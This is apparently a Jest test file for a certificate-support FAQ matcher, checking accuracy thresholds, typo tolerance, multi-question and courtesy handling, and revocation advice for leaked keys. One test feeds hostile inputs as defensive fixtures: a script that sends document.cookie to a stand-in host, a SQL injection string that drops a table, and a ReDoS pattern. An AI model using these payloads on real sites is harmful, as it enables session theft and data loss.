import { join } from 'node:path';
import { openMatching } from '../../src/assistant.js';
import { readGate } from '../../src/knowledge/read/readGate.js';
import { evaluate } from '../../src/matching/evaluate.js';
import type { Matcher } from '../../src/matching/matcher.js';

jest.setTimeout(120_000);

const folder = join(__dirname, '..', '..', 'knowledge');
let opened: Awaited<ReturnType<typeof openMatching>>;
let matcher: Matcher;
beforeAll(async () => {
  opened = await openMatching(folder);
  matcher = opened.matcher;
});

test('the gate’s figures hold', () => {
  const gate = readGate(folder, opened.knowledge);
  expect(gate.faults).toEqual([]);
  const { inScope, near, far } = evaluate(matcher, gate.questions);
  expect(inScope.questions).toBeGreaterThan(100);
  expect(inScope.first).toBeGreaterThanOrEqual(0.92);
  expect(inScope.answeredRight).toBeGreaterThanOrEqual(0.8);
  expect(inScope.answeredWrong).toBeLessThanOrEqual(0.02);
  expect(near.answered).toBeLessThanOrEqual(0.1);
  expect(far.answered).toBeLessThanOrEqual(0.02);
});

test.each([
  ['nothing', ''],
  ['spaces', ' \t\n '],
  ['emoji', '😀🎉👍'],
  ['punctuation', '?!…'],
  ['a right-to-left text', 'كيف أستبدل شهادتي المفقودة؟'],
  ['a Chinese text', '我丢失了证书的私钥怎么办'],
  ['a script', '<script>fetch("//x.example/"+document.cookie)</script>'],
  ['SQL', "' OR 1=1; DROP TABLE certificates; --"],
  ['one letter ten thousand times', 'a'.repeat(10_000)],
  ['control characters', '\u0000\u0001\u001b[2J'],
  ['half a character', '\ud83d'],
  ['the name of a property of every object', '__proto__ constructor toString'],
  ['a pattern', '(a+)+$ [[[ ((( \\'],
])('%s is not answered, and harms nothing', (_, text) => {
  const { decision, entry, confidence } = matcher.match(text);
  expect(decision).not.toBe('answer');
  expect(entry).toBeNull();
  expect(confidence >= 0 && confidence <= 1).toBe(true);
});

test('a question of ten thousand characters is met in good time', () => {
  const began = performance.now();
  matcher.match('Where can I keep the backup? '.repeat(350));
  matcher.match('Where can I keep the backup and what does it cost and '.repeat(200));
  expect(performance.now() - began).toBeLessThan(2000);
});

test.each([
  ['Should I back up my certificate? What does a replacement cost?', 'backup.why', 'replace.cost'],
  ['What is your fax number, and where do I keep a backup safely?', 'replace.fax', 'backup.store-safely'],
  [
    'Hello! Two things: who signs the letter & what does a new one cost? Kind regards, Ann',
    'replace.letter',
    'replace.cost',
  ],
  ['how do I get it replaced, how much does it cost', 'replace.process', 'replace.cost'],
])('“%s” gives both answers', (text, ...expected) => {
  const { decision, entry, also } = matcher.match(text);
  expect(decision).toBe('answer');
  expect([entry, ...also].sort()).toEqual([...expected].sort());
});

test.each([
  ['Shuold I bakcup my certifcate?', 'backup.why'],
  ['can you recovr my privat kee', 'recover.private-key'],
  ['what does a replacment cots', 'replace.cost'],
])('“%s” is understood in spite of its slips', (text, expected) => {
  expect(matcher.match(text).ranking[0]?.id).toBe(expected);
});

test.each([
  ['Our server certificate just died on us and I wonder why. Thank youu', 'unknown', null],
  ['thank you so much, and where does the letter go', 'answer', 'replace.fax'],
  ['Hi all, our private key is gone. Many thanks in advance, Peter', 'answer', 'recover.private-key'],
  ['That fixed it, thanks a lot.', 'answer', 'smalltalk.thanks'],
  ['Hello, hope you are well', 'answer', 'smalltalk.greeting'],
])('in “%s” courtesy does not hide the matter', (text, decision, entry) => {
  expect(matcher.match(text)).toMatchObject({ decision, entry });
});

test.each([
  'A man we let go has a copy of our private key',
  'Can we restore the backup now that a thief has the key?',
  'our key was on a public web page for a week',
])('“%s” is answered with revocation and replacement, never with a backup', (text) => {
  expect(matcher.match(text).ranking[0]?.id).toBe('replace.process');
});

test('what names IIS without asking for a backup draws no guide', () => {
  const about = ['IIS 5 crashes every night', 'What do the key colours in IIS 4 mean?', 'How many sites fit on IIS 5?'];
  for (const text of about) expect([text, matcher.match(text).decision]).toEqual([text, 'unknown']);
});

test('a certificate in our name that nobody ordered is a matter for a person at once', () => {
  const { outside } = matcher.match('Somebody we do not know ordered a certificate in our company’s name');
  expect(opened.knowledge.outside.filter(({ handOff }) => handOff).map(({ id }) => id)).toEqual([outside]);
});

test('a match is whole: ranked, explained, and the same each time', () => {
  const match = matcher.match('what does a replacement cost?');
  expect(match.ranking).toHaveLength(5);
  expect(match.ranking[0]).toEqual({ id: match.entry, confidence: match.confidence });
  expect([...match.ranking].sort((a, b) => b.confidence - a.confidence)).toEqual(match.ranking);
  expect(match.nearest.length).toBeGreaterThan(0);
  expect(matcher.match('what does a replacement cost?')).toEqual(match);
});
